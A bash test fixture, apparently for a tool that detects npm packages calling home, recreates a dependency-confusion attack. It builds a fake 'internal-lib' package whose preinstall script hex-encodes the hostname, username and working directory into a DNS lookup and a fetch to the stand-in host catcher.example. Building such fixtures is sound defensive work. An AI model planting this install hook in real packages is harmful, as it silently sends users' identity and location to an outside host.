#!/bin/bash
# A package that took the name of an internal one calls home: once by name, once by connection.
#: tool npm
#: description a preinstall script puts who and where it is into a question of DNS, and connects to a catcher
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve catcher.example=203.0.113.10
#: finding new-host
#: attack dependency confusion (Birsan, 2021) and packages that call home
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "internal-lib", "version": "1.0.0", "scripts": {"preinstall": "node index.js"}}' > package.json
  cat > index.js <<'END'
const { lookup } = require('node:dns');
const { hostname, userInfo } = require('node:os');
const text = Buffer.from(`${hostname()}.${userInfo().username}.${process.cwd()}`).toString('hex');
lookup(`${text.slice(0, 60)}.id1.catcher.example`, () => {});
fetch('http://catcher.example/').catch(() => {});
END
  tar czf ~/internal-lib.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/internal-lib.tgz
